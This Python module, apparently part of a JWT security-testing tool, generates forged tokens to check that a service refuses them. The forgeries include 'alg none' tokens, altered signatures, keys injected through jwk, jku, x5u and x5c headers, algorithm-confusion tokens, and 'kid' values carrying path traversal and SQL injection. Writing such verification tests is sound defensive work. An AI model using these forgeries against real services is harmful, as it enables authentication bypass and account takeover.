"""Tokens that are not genuine, made from one that is: what must be refused.

The claims are those of the genuine token, or nearly so: a token that is refused for its claims would say
nothing about its signature.

Sources: OWASP ASVS 5.0.0 9.1.1 to 9.1.3; WSTG-SESS-10; RFC 8725; CWE-347.
"""

from __future__ import annotations

import base64
import datetime as dt
import os
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID

from stagehold.probes.login.jwt import (
    Jwt,
    PublicKey,
    encode,
    hmac_signature,
    new_key,
    public_jwk,
    signature_with,
    signing_input,
)

_INJECTED = "stagehold"
_NOWHERE = "https://stagehold.invalid/jwks.json"
"""Never asked by us; whoever fetches it gets nothing (RFC 2606)."""


@dataclass(frozen=True)
class Forgery:
    """A token that is not genuine, and in which way."""

    what: str
    token: str = field(repr=False)


def forge(genuine: Jwt, public_keys: Iterable[PublicKey] = ()) -> tuple[Forgery, ...]:
    """Every forgery that can be made of a token.

    Args:
        genuine: the token.
        public_keys: what the service publishes; for tokens with an asymmetric signature.
    """
    return (
        *_unsigned(genuine),
        *_altered(genuine),
        *_foreign_keys(genuine),
        *_keys_in_the_header(genuine),
        *_key_identifiers(genuine),
        *_confused(genuine, public_keys),
    )


def is_asymmetric(genuine: Jwt) -> bool:
    """Whether the signature is checked with a public key."""
    return genuine.algorithm[:2] in {"RS", "PS", "ES", "Ed"}


def _unsigned(genuine: Jwt) -> Iterator[Forgery]:
    for name in ("none", "None", "NONE", "nOnE"):
        header = {**genuine.header, "alg": name}
        yield Forgery(f"alg {name}, no signature", genuine.forged(header, b""))
    yield Forgery("alg none, with the old signature", genuine.forged({**genuine.header, "alg": "none"}))
    header = {key: value for key, value in genuine.header.items() if key != "alg"}
    yield Forgery("no alg, no signature", genuine.forged(header, b""))
    yield Forgery("signature left out", f"{genuine.signing_input}.")
    yield Forgery("signature and its dot left out", genuine.signing_input)


def _altered(genuine: Jwt) -> Iterator[Forgery]:
    signature = genuine.signature
    middle = len(signature) // 2
    flipped = signature[:middle] + bytes([signature[middle] ^ 1]) + signature[middle + 1 :]
    yield Forgery("one bit of the signature changed", f"{genuine.signing_input}.{encode(flipped)}")
    yield Forgery("half of the signature", f"{genuine.signing_input}.{encode(signature[:middle])}")
    yield Forgery("zeros for a signature", f"{genuine.signing_input}.{encode(bytes(len(signature)))}")
    claims = {**genuine.payload, "stagehold": "changed"}
    yield Forgery("a claim added", f"{signing_input(genuine.header, claims)}.{encode(signature)}")


def _foreign_keys(genuine: Jwt) -> Iterator[Forgery]:
    algorithm = genuine.algorithm
    key = new_key(algorithm)
    text = signing_input(genuine.header, genuine.payload)
    if key is not None:
        yield Forgery(
            f"signed with a foreign {algorithm} key", f"{text}.{encode(signature_with(key, algorithm, text))}"
        )
    symmetric = algorithm if algorithm[:2] == "HS" else "HS256"
    for what, secret in (("a foreign", os.urandom(32)), ("an empty", b"")):
        yield _hmac(genuine, {}, secret, f"signed with {what} {symmetric} key", symmetric)


def _keys_in_the_header(genuine: Jwt) -> Iterator[Forgery]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = public_jwk(key)
    kid = genuine.header.get("kid", "stagehold")
    certificate = _certificate_of(key)
    for what, extra in (
        ("jwk: the key itself", {"jwk": {**jwk, "kid": kid}}),
        ("jku: where to get the key", {"jku": _NOWHERE}),
        ("x5u: where to get the certificate", {"x5u": _NOWHERE}),
        ("x5c: a certificate of the key", {"x5c": [certificate]}),
    ):
        header = {**genuine.header, "alg": "RS256", "kid": kid, **extra}
        text = signing_input(header, genuine.payload)
        yield Forgery(f"header brings {what}", f"{text}.{encode(signature_with(key, 'RS256', text))}")


def _key_identifiers(genuine: Jwt) -> Iterator[Forgery]:
    symmetric = genuine.algorithm if genuine.algorithm[:2] == "HS" else "HS256"
    for what, kid, secret in (
        ("kid leads to an empty file", "../../../../../../../../dev/null", b""),
        ("kid names a key of the query's own", f"' UNION SELECT '{_INJECTED}' -- ", _INJECTED.encode()),
        ("kid is nobody's", "stagehold-unknown", b""),
    ):
        yield _hmac(genuine, {"kid": kid}, secret, what, symmetric)


def _confused(genuine: Jwt, public_keys: Iterable[PublicKey]) -> Iterator[Forgery]:
    if not is_asymmetric(genuine):
        return
    for number, key in enumerate(public_keys, 1):
        pem = key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        forms = {
            "PEM": pem,
            "PEM without its last line end": pem.rstrip(b"\n"),
            "DER": key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        }
        if isinstance(key, rsa.RSAPublicKey):
            forms["PKCS 1 PEM"] = key.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        for form, secret in forms.items():
            yield _hmac(genuine, {}, secret, f"signed HS256 with public key {number} as {form}", "HS256")


def _hmac(genuine: Jwt, extra: dict[str, str], secret: bytes, what: str, algorithm: str) -> Forgery:
    text = signing_input({**genuine.header, "alg": algorithm, **extra}, genuine.payload)
    return Forgery(what, f"{text}.{encode(hmac_signature(algorithm, secret, text))}")


def _certificate_of(key: rsa.RSAPrivateKey) -> str:
    """A self-signed certificate of the key, as the `x5c` header holds it (base64 of DER)."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "stagehold")])
    now = dt.datetime.now(dt.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
    )
    der = builder.sign(key, hashes.SHA256()).public_bytes(Encoding.DER)
    return base64.b64encode(der).decode()
